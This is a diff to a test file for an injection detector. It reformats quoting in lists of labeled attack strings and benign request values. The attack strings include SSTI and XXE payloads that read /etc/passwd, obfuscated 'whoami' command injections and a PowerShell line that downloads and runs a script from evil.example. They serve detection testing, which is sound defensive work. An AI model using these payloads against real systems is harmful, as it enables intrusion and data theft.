@@ -38,7 +38,7 @@ describe('injection beyond the corpora (tuned split)', () => {
     ["${T(java.lang.Runtime).getRuntime().exec('id')}", 'ssti'],
     ['<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 'xxe'],
     ['*)(uid=*))(|(uid=*', 'ldap'],
-    ['; w\'h\'o\'am\'i', 'cmdi'],
+    ["; w'h'o'am'i", 'cmdi'],
     ['& w^h^o^a^m^i', 'cmdi'],
     ['; IEX (iwr http://evil.example/p.ps1)', 'cmdi'],
     ['1 AND (CASE WHEN (1=1) THEN 1 ELSE 0 END)=1', 'sqli'],
@@ -49,7 +49,18 @@ describe('injection beyond the corpora (tuned split)', () => {
 
   it('stays quiet on placeholders, prose and real request values', () => {
     const d = new InjectionDetector();
-    for (const v of ['name={{user.name}}', 'tpl=${HOME}/x', 'q=(a) or (b)', 'msg=it\'s done', 'q=<b>bold</b>', 'q=what is 7*7?', 'filter=(status=active)', 'q=C# vs F#', 'email=a@b.example', 'q=don\'t stop']) {
+    for (const v of [
+      'name={{user.name}}',
+      'tpl=${HOME}/x',
+      'q=(a) or (b)',
+      "msg=it's done",
+      'q=<b>bold</b>',
+      'q=what is 7*7?',
+      'filter=(status=active)',
+      'q=C# vs F#',
+      'email=a@b.example',
+      "q=don't stop",
+    ]) {
       expect(fires(d, { 'url.query': v }), v).toBeUndefined();
     }
     const benign = corpus().filter((r) => r.label === 'benign' && r.cls !== 'benign_applog_synthetic' && r.cls !== 'benign_hard');
